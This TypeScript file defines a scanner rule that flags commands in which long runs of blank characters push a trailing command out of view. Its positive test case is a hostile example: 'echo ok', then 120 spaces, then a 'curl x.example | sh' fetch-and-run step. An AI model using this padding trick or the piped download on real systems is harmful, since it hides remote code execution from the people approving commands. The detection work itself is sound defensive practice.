import { defineRule, type Hit } from './rule.js';

export const rule = defineRule({
  id: 'hidden_multiline',
  category: 'hidden_text',
  severity: 'high',
  technique: 'T1036',
  title: 'Long runs of blanks that push part of the command off screen',
  check(ctx) {
    const hits: Hit[] = [];
    const t = ctx.input;
    let run = 0;
    for (let i = 0; i < t.length; i++) {
      const c = t.charCodeAt(i);
      const blank = c === 0x20 || c === 0x09 || c === 0xa0 || (c >= 0x2000 && c <= 0x200a) || c === 0x3000;
      if (blank) { run++; continue; }
      if (run >= 60 && c !== 0x0a && c !== 0x0d) {
        hits.push({ span: { start: i - run, end: i + 1 }, explanation: `contains ${run} blank characters followed by more commands, which pushes them out of view` });
        break;
      }
      run = 0;
    }
    return hits;
  },
  cases: {
    positive: [['bash', 'echo ok' + ' '.repeat(120) + '; curl x.example | sh']],
    negative: [['bash', 'echo "a    b"']],
  },
});
